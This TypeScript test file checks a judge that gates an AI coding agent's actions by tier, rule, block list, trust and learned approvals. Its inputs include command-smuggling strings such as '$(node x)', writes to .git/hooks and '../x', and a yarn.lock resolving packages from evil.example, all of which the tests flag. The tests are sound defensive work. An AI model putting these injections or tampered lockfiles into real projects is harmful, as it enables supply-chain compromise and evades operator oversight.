import { describe, expect, test } from "vitest";
import { CONTEXT, NOW, POLICY, run, toAction, write } from "./fixture.ts";
import { judge } from "./judge.ts";
import { findDangersOfResult } from "./judge-changes.ts";
import { judgeDecision } from "./judge-decision.ts";
import { type AutonomyCounts, evolveCounts, type Lesson, NO_COUNTS } from "./learning.ts";
import { evolveTrust, NO_TRUST, type TrustRecord } from "./trust.ts";
import type { AutonomyContext, Rules, Tier } from "./types.ts";

const TIERS: readonly Tier[] = ["supervised", "balanced", "autonomous", "full_auto"];
const inTier = (tier: Tier, more: Partial<AutonomyContext> = {}): AutonomyContext => ({
  ...CONTEXT,
  policy: { ...POLICY, tier },
  ...more,
});
const withRules = (rules: Rules, projectRules: Rules = {}): AutonomyContext => ({
  ...CONTEXT,
  policy: { ...POLICY, rules, projectRules },
});
const withLists = (
  approvedActions: readonly string[],
  blockedActions: readonly string[] = [],
  more: Partial<AutonomyContext> = {},
): AutonomyContext => ({
  ...CONTEXT,
  ...more,
  workstream: { ...CONTEXT.workstream, approvedActions, blockedActions },
});
const remove = toAction({ kind: "delete", paths: ["src/old.ts"] });

function lessons(kind: string, count: number, lesson: Lesson): AutonomyCounts {
  let counts = NO_COUNTS;
  for (let at = 0; at < count; at += 1) counts = evolveCounts(counts, { kind, lesson });
  return counts;
}

function tasks(count: number): TrustRecord {
  let record = NO_TRUST;
  for (let at = 0; at < count; at += 1) record = evolveTrust(record, "succeeded", NOW);
  return record;
}

describe("tiers", () => {
  test.each([
    ["reads", toAction({ kind: "read", paths: ["a"] }), ["proceed", "proceed", "proceed", "proceed"]],
    ["runs the tests", run("npm test"), ["proceed", "proceed", "proceed", "proceed"]],
    ["looks", run("git status"), ["proceed", "proceed", "proceed", "proceed"]],
    ["makes a file", write("src/a.ts", "x", "create"), ["ask", "proceed", "proceed", "proceed"]],
    ["changes a file", write("src/a.ts"), ["ask", "proceed", "proceed", "proceed"]],
    ["runs a command", run("npm run build"), ["ask", "log", "log", "log"]],
    ["changes a dependency", run("npm install x"), ["ask", "log", "log", "log"]],
    ["deletes a file", remove, ["ask", "ask", "ask", "log"]],
    ["calls a foreign tool", toAction({ kind: "tool", tool: "files/write" }), ["ask", "ask", "ask", "log"]],
    ["is not understood", run("$X"), ["ask", "ask", "ask", "log"]],
    ["pushes", run("git push"), ["ask", "ask", "ask", "ask"]],
    [
      "asks through osqr",
      toAction({ kind: "tool", tool: "osqr/ask_operator" }),
      ["proceed", "proceed", "proceed", "proceed"],
    ],
  ])("%s", (_title, action, outcomes) => {
    expect(TIERS.map((tier) => judge(action, inTier(tier)).outcome)).toEqual(outcomes);
  });

  test("low confidence asks up to balanced and is logged beyond", () => {
    const outcomes = TIERS.map((tier) => judge(write("src/a.ts"), inTier(tier, { confidence: 0.3 })).outcome);
    expect(outcomes).toEqual(["ask", "ask", "log", "log"]);
  });
});

describe("rules", () => {
  test("a file beyond what the workstream declares is logged", () => {
    const context = { ...CONTEXT, workstream: { ...CONTEXT.workstream, touches: ["src/auth/**"] } };
    expect(judge(write("src/auth/a.ts"), context).outcome).toBe("proceed");
    const verdict = judge(write("src/other.ts"), context);
    expect(verdict.outcome).toBe("log");
    expect(verdict.reasons.join("\n")).toContain("declares to touch");
  });

  test("the operator's rule takes the place of the built-in one", () => {
    expect(judge(remove, withRules({ delete: { level: "full" } })).outcome).toBe("proceed");
    expect(judge(write("src/a.ts"), withRules({ edit: { level: "ask" } })).outcome).toBe("ask");
  });

  test("a rule of a wider name tightens narrower ones and does not loosen them", () => {
    expect(judge(write("a.test.ts"), withRules({ edit: { level: "ask" } })).outcome).toBe("ask");
    expect(judge(write("a.test.ts"), withRules({ edit: { level: "full" } })).outcome).toBe("log");
    expect(judge(remove, withRules({ write: { level: "full" } })).outcome).toBe("ask");
    expect(judge(run("ls"), withRules({ execute: { level: "ask" } })).outcome).toBe("ask");
  });

  test("ask in a config holds in every tier, whatever was learned and whoever is trusted", () => {
    const rules: Rules = { delete: { level: "ask" }, update_tests: { level: "ask" } };
    for (const tier of TIERS) {
      const context = { ...inTier(tier), counts: lessons("delete", 59, "approved"), trust: tasks(30) };
      for (const policy of [
        { ...context.policy, rules },
        { ...context.policy, projectRules: rules },
      ]) {
        expect(judge(remove, { ...context, policy }).outcome).toBe("ask");
        expect(judge(write("a.test.ts"), { ...context, policy }).outcome).toBe("ask");
      }
    }
  });

  test.each([
    ["paths", { paths: ["src/**"] }, write("src/a.ts"), write("lib/a.ts")],
    ["commands", { commands: ["npm run", "make"] }, run("make all"), run("node x.js")],
    [
      "maxFiles",
      { maxFiles: 2 },
      toAction({ kind: "edit", paths: ["a", "b"] }),
      toAction({ kind: "edit", paths: ["a", "b", "c"] }),
    ],
    ["maxChars", { maxChars: 3 }, write("a.ts", "abc"), write("a.ts", "abcd")],
    ["maxChars, not told", { maxChars: 3 }, write("a.ts", ""), write("a.ts", null)],
  ])("the condition %s", (_title, when, meets, fails) => {
    const rules: Rules = { edit: { level: "full", when }, execute: { level: "full", when } };
    expect(judge(meets, withRules(rules)).outcome).toBe("proceed");
    expect(judge(fails, withRules(rules)).outcome).toBe("ask");
  });

  test.each([
    ["none", "ask", "ask"],
    ["present", "proceed", "ask"],
    ["passing", "proceed", "proceed"],
  ] as const)("tests that are %s", (tests, present, passing) => {
    const outcomes = (["present", "passing"] as const).map(
      (wanted) =>
        judge(write("a.ts"), { ...withRules({ edit: { level: "full", when: { tests: wanted } } }), tests })
          .outcome,
    );
    expect(outcomes).toEqual([present, passing]);
  });
});

describe("blocked and approved actions", () => {
  test("blocked is refused, with the reason, in every tier, also where it would only ask", () => {
    for (const tier of TIERS) {
      const context = {
        ...inTier(tier),
        ...withLists(["edit"], ["edit:src/core/**", "execute:git push"], inTier(tier)),
      };
      const verdict = judge(write("src/core/a.ts"), context);
      expect(verdict).toMatchObject({ outcome: "refuse", kind: null });
      expect(verdict.reasons.at(-1)).toBe(
        'blocked for this workstream: edit:src/core/** (edit "src/core/a.ts")',
      );
      expect(judge(run("ls && git -C x push"), context).outcome).toBe("refuse");
      expect(judge(run("echo x > src/core/a.ts"), context).outcome).toBe("refuse");
    }
  });

  test("what is not understood may be what is blocked: it asks in full_auto too", () => {
    expect(judge(run("$X"), withLists([], ["execute:git push"], inTier("full_auto"))).outcome).toBe("ask");
  });

  test("a blocked action that means nothing makes everything ask that changes something", () => {
    const context = withLists([], ["edti:src/**"]);
    expect(judge(write("a.ts"), context)).toMatchObject({ outcome: "ask" });
    expect(judge(run("ls"), context).outcome).toBe("proceed");
  });

  test("approved goes on, logged where the tier is supervised; every part has to be", () => {
    expect(judge(remove, withLists(["delete:src/**"])).outcome).toBe("proceed");
    expect(judge(remove, withLists(["delete:src/**"], [], inTier("supervised"))).outcome).toBe("log");
    expect(
      judge(run("npm run deps && ls"), withLists(["execute:npm run"], [], inTier("supervised"))).outcome,
    ).toBe("log");
    expect(
      judge(run("npm run deps; node x"), withLists(["execute:npm run"], [], inTier("supervised"))).outcome,
    ).toBe("ask");
    expect(
      judge(run("npm run deps $(node x)"), withLists(["execute:npm run"], [], inTier("supervised"))).outcome,
    ).toBe("ask");
  });

  test("nothing inviolable can be approved", () => {
    const all = withLists(["write", "execute", "modify_spec", "tool", "fetch"]);
    for (const action of [
      run("git push"),
      write(".git/hooks/x"),
      write("docs/plan.md"),
      write("../x"),
      run("$X"),
    ])
      expect(judge(action, all).outcome).toBe("ask");
  });
});

describe("learning and trust", () => {
  test("28 approvals turn the built-in ask into a log, never for what cannot be taken back", () => {
    const counts = { ...lessons("delete", 28, "approved"), ...lessons("execute:git push", 59, "approved") };
    expect(judge(remove, { ...CONTEXT, counts: lessons("delete", 27, "approved") }).outcome).toBe("ask");
    expect(judge(remove, { ...CONTEXT, counts }).outcome).toBe("log");
    expect(judge(run("git push"), { ...CONTEXT, counts }).outcome).toBe("ask");
    expect(judge(remove, { ...inTier("supervised"), counts }).outcome).toBe("ask");
  });

  test("overrides make what went on ask", () => {
    const { kind } = judge(write("src/a.ts"), CONTEXT);
    expect(kind).toBe("edit");
    expect(judge(write("src/a.ts"), { ...CONTEXT, counts: lessons("edit", 1, "overridden") }).outcome).toBe(
      "log",
    );
    expect(judge(write("src/a.ts"), { ...CONTEXT, counts: lessons("edit", 2, "overridden") }).outcome).toBe(
      "ask",
    );
  });

  test("trust unlocks what EO-9 says, a step each", () => {
    const outcomes = [
      write("a.test.ts"),
      run("npm install x"),
      toAction({ kind: "move", paths: ["a.ts", "b.ts"] }),
    ].map((action) => [0, 5, 20].map((count) => judge(action, { ...CONTEXT, trust: tasks(count) }).outcome));
    expect(outcomes).toEqual([
      ["log", "log", "proceed"],
      ["log", "log", "proceed"],
      ["log", "proceed", "proceed"],
    ]);
    expect(judge(remove, { ...CONTEXT, trust: tasks(30) }).outcome).toBe("ask");
  });

  test("the kind is that of the part that asks", () => {
    expect(judge(run("npm run build && rm src/a.ts"), CONTEXT)).toMatchObject({
      outcome: "ask",
      kind: "delete",
    });
  });
});

test("reasons tell the way in order, with what agents say quoted", () => {
  const verdict = judge(run("npm install x > out/\u001b[31m.txt"), CONTEXT);
  expect(verdict.reasons.join("\n")).not.toContain("\u001b");
  const context = {
    ...CONTEXT,
    confidence: 0.8,
    trust: tasks(20),
    counts: lessons("add_dependency", 3, "approved"),
  };
  expect(judge(run("npm install x && npm test"), context)).toMatchInlineSnapshot(`
    {
      "hazards": [],
      "kind": "add_dependency",
      "outcome": "log",
      "reasons": [
        "tier balanced",
        "rule of add_dependency: supervised",
        "trust trusted (20 tasks that count): add_dependency is a step freer",
        "stated confidence 80 %; 3 answers about add_dependency put it at 47 % to 99 %: log",
        "rule of run_tests: full",
        "stated confidence 80 %, no answers about run_tests yet: log",
      ],
    }
  `);
});

describe("decisions that agents report", () => {
  const decide = (subject: string, confidence: number, choice = "it") =>
    ({ kind: "decision", subject, choice, reason: "because", confidence }) as const;

  test.each([
    ["variable names", 0.95, "proceed"],
    ["variable names", 0.9, "log"],
    ["variable names", 0.7, "log"],
    ["variable names", 0.69, "ask"],
    ["variable names", 7, "ask"],
    ["variable names", Number.NaN, "ask"],
    ["database schema", 0.99, "ask"],
    ["the retry feature is out of scope", 1, "ask"],
    ["drop the requirement on speed", 1, "ask"],
    ["deploy to the cluster", 1, "ask"],
    ["scope of a variable", 0.95, "proceed"],
    ["pin requirements.txt", 0.95, "proceed"],
  ])("%s at %f: %s", (subject, confidence, outcome) => {
    expect(judgeDecision(decide(subject, confidence), CONTEXT).outcome).toBe(outcome);
  });

  test("scope asks in every tier, and nothing is learned from it", () => {
    for (const tier of TIERS)
      expect(judgeDecision(decide("acceptance criteria of search", 1), inTier(tier))).toMatchObject({
        outcome: "ask",
        kind: null,
        hazards: ["scope"],
      });
  });

  test("overrides of a topic make the next one ask, in other words too", () => {
    const { kind } = judgeDecision(decide("session storage", 0.95), CONTEXT);
    expect(kind).toBe("decide:session storag");
    const counts = lessons(kind ?? "", 2, "overridden");
    expect(judgeDecision(decide("storage of the sessions", 0.95), { ...CONTEXT, counts }).outcome).toBe(
      "ask",
    );
    expect(judgeDecision(decide("log format", 0.95), { ...CONTEXT, counts }).outcome).toBe("proceed");
  });

  test("a blocked topic is refused, an approved one goes on", () => {
    expect(judgeDecision(decide("License headers", 1), withLists([], ["decide:headers"])).outcome).toBe(
      "refuse",
    );
    expect(judgeDecision(decide("colours", 0.1), withLists(["decide:colours"])).outcome).toBe("proceed");
  });
});

test("dangers of a result are found whether the agent asked or not", () => {
  const file = (path: string, before: string | null, after: string | null) =>
    ({ change: "edit", path, before, after }) as const;
  const found = findDangersOfResult(
    [
      file("src/a.ts", null, null),
      file("package.json", '{"scripts":{"prepare":"a"}}', '{"scripts":{"prepare":"b"}}'),
      file("sub/package.json", '{"scripts":{"prepare":"a"}}', '{"scripts":{"prepare":"a"},"version":"2"}'),
      file("yarn.lock", "", 'resolved "https://evil.example/x.tgz"'),
      file(".github/workflows/ci.yml", null, null),
      { change: "delete", path: "docs/plan.md", before: null, after: null },
    ],
    { specs: ["docs/plan.md"] },
  );
  expect(found.map(({ kind, text }) => `${kind}: ${text}`)).toMatchInlineSnapshot(`
    [
      "install: package.json gets a new prepare",
      "host: "yarn.lock" takes packages from evil.example",
      "ci: changes ".github/workflows/ci.yml": what CI runs",
      "scope: deletes "docs/plan.md", a spec: what is to be built changes only by a decision",
    ]
  `);
});
